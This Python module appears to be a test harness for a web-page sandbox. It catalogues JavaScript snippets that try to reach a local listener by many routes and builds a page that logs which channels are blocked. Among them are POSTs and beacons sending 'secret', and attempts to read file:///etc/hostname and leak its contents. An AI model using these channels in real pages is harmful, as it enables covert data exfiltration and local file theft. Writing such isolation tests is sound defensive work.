"""Ways in which a page may try to reach something outside its package, one snippet of JavaScript each.

`U` is an address at a listener that ends with the channel's name, `W` the same for web sockets, `P` its port;
what a snippet does in a moment is given to `later`. docs/walls.md tells what becomes of each.
"""

IN_THE_PAGE: dict[str, str] = {
    # elements that load
    "img": "put('img', {src: U})",
    "img srcset": "put('img', {srcset: U + ' 2x'})",
    "picture source": "document.body.insertAdjacentHTML('beforeend', `<picture><source srcset='${U}'><img></picture>`)",
    "input image": "put('input', {type: 'image', src: U})",
    "script": "put('script', {src: U})",
    "module script": "put('script', {type: 'module', src: U})",
    "stylesheet": "put('link', {rel: 'stylesheet', href: U})",
    "icon": "put('link', {rel: 'icon', href: U})",
    "manifest": "put('link', {rel: 'manifest', href: U})",
    "prefetch": "put('link', {rel: 'prefetch', href: U})",
    "prerender": "put('link', {rel: 'prerender', href: U})",
    "preload": "put('link', {rel: 'preload', as: 'image', href: U})",
    "modulepreload": "put('link', {rel: 'modulepreload', href: U})",
    "preconnect": "put('link', {rel: 'preconnect', href: U})",
    "dns-prefetch": "put('link', {rel: 'dns-prefetch', href: U})",
    "speculation rules": "put('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [U]}]})})",
    "iframe": "put('iframe', {src: U})",
    "iframe srcdoc": "put('iframe', {srcdoc: `<img src='${U}'>`})",
    "iframe data": "put('iframe', {src: 'data:text/html,' + encodeURIComponent(`<img src='${U}'><script>fetch('${U}')</script>`)})",
    "iframe blob": "put('iframe', {src: URL.createObjectURL(new Blob([`<img src='${U}'><script>fetch('${U}')</script>`], {type: 'text/html'}))})",
    "iframe javascript": "put('iframe', {src: `javascript:'<img src=${U}>'`})",
    "iframe without script": "put('iframe', {sandbox: '', srcdoc: `<img src='${U}'>`})",
    "object": "put('object', {data: U})",
    "embed": "put('embed', {src: U})",
    "video": "put('video', {src: U, preload: 'auto'})",
    "poster": "put('video', {poster: U})",
    "audio": "put('audio', {src: U, preload: 'auto'})",
    "track": "document.body.insertAdjacentHTML('beforeend', `<video><track default kind=subtitles src='${U}'></video>`)",
    "svg image": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${U}'/></svg>`)",
    "svg use": "document.body.insertAdjacentHTML('beforeend', `<svg><use href='${U}#a'/></svg>`)",
    "xml stylesheet": "put('iframe', {src: URL.createObjectURL(new Blob([`<?xml-stylesheet type='text/xsl' href='${U}'?><a/>`], {type: 'text/xml'}))})",
    # styles
    "css background": "put('div', {style: `width:9px;height:9px;background:url(${U})`})",
    "css import": "put('style', {textContent: `@import url(${U});`})",
    "css font": "put('style', {textContent: `@font-face{font-family:z;src:url(${U})} .z{font-family:z}`}); put('p', {className: 'z', textContent: 'z'})",
    "css cursor": "put('div', {style: `cursor:url(${U}),auto`})",
    "css list": "put('li', {style: `list-style-image:url(${U})`})",
    "css content": "put('style', {textContent: `.y::before{content:url(${U})}`}); put('p', {className: 'y'})",
    "font face": "new FontFace('q', `url(${U})`).load().catch(() => 0)",
    # script that asks
    "fetch": "fetch(U).catch(() => 0)",
    "fetch no-cors": "fetch(U, {mode: 'no-cors'}).catch(() => 0)",
    "fetch keepalive": "fetch(U, {mode: 'no-cors', keepalive: true}).catch(() => 0)",
    "fetch post": "fetch(U, {method: 'POST', body: 'secret', mode: 'no-cors'}).catch(() => 0)",
    "fetch later": "fetchLater(U, {activateAfter: 0})",
    "xhr": "{ const x = new XMLHttpRequest(); x.open('GET', U); x.send(); }",
    "xhr sync": "{ const x = new XMLHttpRequest(); x.open('GET', U, false); x.send(); }",
    "beacon": "navigator.sendBeacon(U, 'secret')",
    "web socket": "new WebSocket(W)",
    "web socket stream": "new WebSocketStream(W).opened.catch(() => 0)",
    "event source": "new EventSource(U)",
    "import": "import(U).catch(() => 0)",
    "worker": "new Worker(U)",
    "worker import": "new Worker(URL.createObjectURL(new Blob([`importScripts('${U}')`])))",
    "worker fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('${U}',{mode:'no-cors'})`])))",
    "worker socket": "new Worker(URL.createObjectURL(new Blob([`new WebSocket('${W}')`])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${U}',{mode:'no-cors'})`])))",
    "service worker": "navigator.serviceWorker.register(U).catch(() => 0)",
    "worklet": "CSS.paintWorklet.addModule(U).catch(() => 0)",
    "audio worklet": "new AudioContext().audioWorklet.addModule(U).catch(() => 0)",
    "web transport": "new WebTransport(U.replace('http:', 'https:'))",
    "stun": "ice(window, `stun:${H}:${P}`)",
    "stun in a frame": "{ const f = put('iframe', {srcdoc: 'x'}); f.onload = () => later(() => ice(f.contentWindow, `stun:${H}:${P}`)); }",
    "stun in an empty frame": "ice(empty(), `stun:${H}:${P}`)",
    "turn in an empty frame": "ice(empty(), `turn:${H}:${P}?transport=tcp`)",
    "turns in an empty frame": "ice(empty(), `turns:${H}:${P}?transport=tcp`)",
    "web transport in an empty frame": "new (empty().WebTransport)(U.replace('http:', 'https:')).ready.catch(() => 0)",
    "notification": "new Notification('x', {icon: U})",
    "background fetch": "navigator.serviceWorker.ready.then((r) => r.backgroundFetch.fetch('x', U))",
    "reporting": "put('meta', {httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${U}`}); put('img', {src: 'nothing.png'})",
    "protocol handler": "navigator.registerProtocolHandler('web+x', U + '?%s')",
    # other protocols and this PC's own files
    "file fetch": "fetch('file:///etc/hostname').then((r) => r.text()).then((t) => leak('file fetch', t)).catch(() => 0)",
    "file frame": "{ const f = put('iframe', {src: 'file:///etc/hostname'}); f.onload = () => { try { leak('file frame', f.contentDocument.body.innerText); } catch (walled) {} }; }",
    "file image": "{ const i = put('img', {src: 'file:///usr/share/pixmaps/debian-logo.png'}); i.onload = () => leak('file image', 'seen'); }",
    "ftp": "put('iframe', {src: `ftp://127.0.0.1:${P}/`})",
    "view-source": "put('iframe', {src: 'view-source:' + U})",
    "chrome": "put('iframe', {src: 'chrome://version'})",
    "mailto": "put('iframe', {src: 'mailto:a@b.example'})",
    # leaving
    "ping": "{ const a = put('a', {href: '#x', ping: U, textContent: 'x'}); a.click(); }",
    "download": "{ const a = put('a', {href: U, download: 'x', textContent: 'x'}); a.click(); }",
    "form get": "{ const f = put('form', {action: U, target: put('iframe', {name: 'fg'}).name}); f.submit(); }",
    "form post": "{ put('iframe', {name: 'fp'}); const f = put('form', {action: U, method: 'post', target: 'fp'}); f.submit(); }",
    "form in a new window": "{ const f = put('form', {action: U, target: '_blank'}); f.submit(); }",
    "window": "window.open(U)",
    "window without opener": "window.open(U, '_blank', 'noopener')",
    "window that fetches": "{ const w = window.open('about:blank'); if (w) w.eval(`fetch('${U}', {mode: 'no-cors'})`); }",
    "window that goes": "{ const w = window.open('about:blank'); if (w) w.location = U; }",
    "link to a new window": "{ const a = put('a', {href: U, target: '_blank', textContent: 'x'}); a.click(); }",
    "frame location": "{ const f = put('iframe', {}); f.contentWindow.location = U; }",
    "meta refresh in a frame": "put('iframe', {srcdoc: `<meta http-equiv=refresh content='0;url=${U}'>`})",
}

LEAVING: dict[str, str] = {
    "location": "location.href = U",
    "location replace": "location.replace(U)",
    "top location": "top.location.href = U",
    "meta refresh": "put('meta', {httpEquiv: 'refresh', content: '0;url=' + U})",
    "link": "put('a', {href: U, textContent: 'x'}).click()",
    "form at the top": "put('form', {action: U, target: '_top'}).submit()",
    "data at the top": "top.location.href = 'data:text/html,' + encodeURIComponent(`<img src='${U}'>`)",
    "another package": "location.href = location.href.replace(/^(.*:..)[^/]*/, '$1other')",
}
"""Ways that take the page away when they work; each has a page of its own."""

PAGE = """<!doctype html><meta charset="utf-8"><title>t</title><body><script>
const P = %(port)d, H = %(host)r;
function leak(name, what) { console.log('LEAK ' + name + ': ' + what); }
function put(tag, given) {
  const made = document.createElement(tag);
  const {style, ...rest} = given;
  for (const [name, value] of Object.entries(rest)) {
    if (name in made) made[name] = value; else made.setAttribute(name, value);
  }
  if (style) made.setAttribute('style', style);
  document.body.append(made);
  return made;
}
function empty() { return put('iframe', {}).contentWindow; }
function ice(where, urls) {
  const made = new where.RTCPeerConnection({iceServers: [{urls, username: 'secret', credential: 'x'}]});
  made.createDataChannel('x');
  made.createOffer().then((offer) => made.setLocalDescription(offer));
}
function tell(name, how) { console.log('CHANNEL ' + JSON.stringify([name, how])); }
function attack(name, act) {
  const at = encodeURIComponent(name);
  const attempt = (go) => {
    try { go(); tell(name, 'tried'); } catch (error) { tell(name, error instanceof TypeError ? 'unavailable' : 'refused'); }
  };
  attempt(() => act(`http://${H}:${P}/${at}`, `ws://${H}:${P}/${at}`, attempt));
}
document.addEventListener('securitypolicyviolation', (one) => {
  const at = /^(?:http|ws):[/][/][^/]*[/](.+)$/.exec(one.blockedURI);
  if (at) tell(decodeURIComponent(at[1]), 'policy');
});
%(attacks)s
setTimeout(() => console.log('ATTACKED'), %(patience)d);
</script>"""


def page_of(attacks: dict[str, str], port: int, patience_ms: int, host: str = "127.0.0.1") -> str:
    """Return a page that tries the attacks, and then says ATTACKED on its console.

    On the way it says CHANNEL with a name and what became of it, as JSON: "tried"; "refused" by the engine at once;
    "unavailable", as there is no such thing here; "policy", by the package's own.
    """
    tried = "\n".join(
        f"attack({name!r}, (U, W, later) => {{ {script}; }});" for name, script in attacks.items()
    )
    tried = tried.replace("</script>", "<\\/script>")  # inside a script it would end that script
    return PAGE % {"port": port, "host": host, "attacks": tried, "patience": patience_ms}
